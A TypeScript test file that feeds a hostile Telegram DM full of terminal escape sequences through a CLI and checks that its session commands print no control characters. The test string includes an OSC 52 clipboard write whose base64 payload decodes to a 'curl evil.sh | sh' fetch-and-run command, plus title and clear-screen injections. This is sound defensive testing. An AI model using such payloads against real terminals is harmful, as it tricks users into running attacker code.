/**
 * Scenario (n): escape codes through the CLI. An allowed Telegram user sends a DM carrying an
 * OSC 52 clipboard write, a window-title change and clear screen (7-bit and 8-bit forms);
 * the session takes its title from it. The real CLI (`node cli/bin.js`) then lists, shows,
 * prints the messages of and exports that session, its stdout a pipe, against the real
 * `wrangler dev`. Any control character other than newline and tab in what it printed is a
 * breach; a session that never shows up, or output without the DM's visible words, is lost.
 */
import { spawn } from "node:child_process";
import path from "node:path";
import { PROJECT_ROOT } from "../../cli/local.ts";
import { onCleanup, sessionWhere, within, type Tally } from "./harness.ts";
import type { Stack } from "./stack.ts";
import { dmKey, freshUser, sendDm } from "./telegram-dm.ts";

const HOSTILE = "escape\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x1b\\\x1b[2J\x1b[3J\x1b[H\x9d0;pwned8\x9c\x9b2J probe";
const VISIBLE = "escape probe";
const DRIVES_TERMINAL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

/** Runs the CLI with `args` against the stack's Worker; its stdout and stderr, both pipes. */
function cli(s: Stack, args: string[]): Promise<{ code: number; out: string }> {
  const child = spawn(process.execPath, [path.join(PROJECT_ROOT, "cli", "bin.js"), ...args], {
    env: { ...process.env, HERMES_EDGE_URL: s.worker.url, HERMES_EDGE_TOKEN: s.worker.token, NO_COLOR: "1" },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const forget = onCleanup(() => void child.kill("SIGKILL"));
  let out = "";
  child.stdout.on("data", (d: Buffer) => (out += d.toString("utf8")));
  child.stderr.on("data", (d: Buffer) => (out += d.toString("utf8")));
  return within(30_000, new Promise((resolve) => child.once("exit", (code) => (forget(), resolve({ code: code ?? 1, out })))), `hermes-edge ${args.join(" ")}`);
}

export async function escapeCodes(s: Stack, o: { rounds: number }, t: Tally): Promise<void> {
  for (let round = 0; round < o.rounds; round++) {
    const user = freshUser();
    s.llm.text(`you said: ${HOSTILE}`);
    await sendDm(s.api, user, `${HOSTILE} ${round}`);
    const session = await sessionWhere(s.api, `the session of DM ${user}`, (x) => x.session_key === dmKey(user));
    for (const args of [
      ["sessions", "list"],
      ["sessions", "show", session.id],
      ["sessions", "messages", session.id],
      ["sessions", "export", session.id, "--format", "md"],
      ["sessions", "list", "--json"],
    ]) {
      t.cases++;
      const { code, out } = await cli(s, args);
      const what = `hermes-edge ${args.join(" ")}`;
      const bad = DRIVES_TERMINAL.exec(out);
      if (bad) t.add("breached", `${what} printed U+${bad[0].charCodeAt(0).toString(16).padStart(4, "0")} from a DM`);
      else if (out.includes("52;c;") || out.includes("pwned")) t.add("breached", `${what} printed an escape sequence's body`);
      // A list shows the session (its title may be written after the turn); the rest show the DM's words.
      if (code !== 0 || !out.includes(args[1] === "list" ? session.id : VISIBLE))
        t.add("lost", `${what}: exit ${code}, the session or the DM's words not shown`);
    }
  }
  t.info.push(`${o.rounds} hostile DM(s), each through sessions list / show / messages / export --format md / list --json`);
}
